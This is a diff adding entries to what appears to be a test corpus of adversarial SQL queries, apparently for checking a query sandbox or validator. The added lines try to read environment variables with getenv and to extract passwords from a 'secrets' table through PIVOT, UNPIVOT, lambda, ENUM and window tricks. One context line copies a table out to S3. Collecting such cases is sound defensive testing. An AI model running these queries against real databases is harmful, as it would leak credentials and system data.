@@ -406,3 +406,23 @@ SELECT $x
 SELECT * FROM orders WHERE nextval('s') > 0
 -- [attacker 196]
 COPY (FROM orders) TO 's3://x'
+-- [third wave 01]
+SELECT 'HOME'.getenv()
+-- [third wave 02]
+SELECT list_transform([1], x -> getenv('HOME'))
+-- [third wave 03]
+PIVOT orders ON status IN (SELECT pw FROM secrets) USING count(*)
+-- [third wave 04]
+PIVOT orders ON status USING max((SELECT pw FROM secrets LIMIT 1))
+-- [third wave 05]
+SELECT * FROM (UNPIVOT (FROM secrets) ON y)
+-- [third wave 06]
+SELECT COLUMNS(lambda c: c = (SELECT max(pw) FROM secrets)) FROM orders
+-- [third wave 07]
+SELECT 'x'::ENUM(SELECT pw FROM secrets)
+-- [third wave 08]
+FROM orders SELECT x: (FROM secrets SELECT max(pw))
+-- [third wave 09]
+SELECT * FROM orders WINDOW w AS (ORDER BY (FROM secrets SELECT max(pw)))
+-- [third wave 10]
+SELECT * FROM orders, unnest([(FROM secrets SELECT max(pw))])
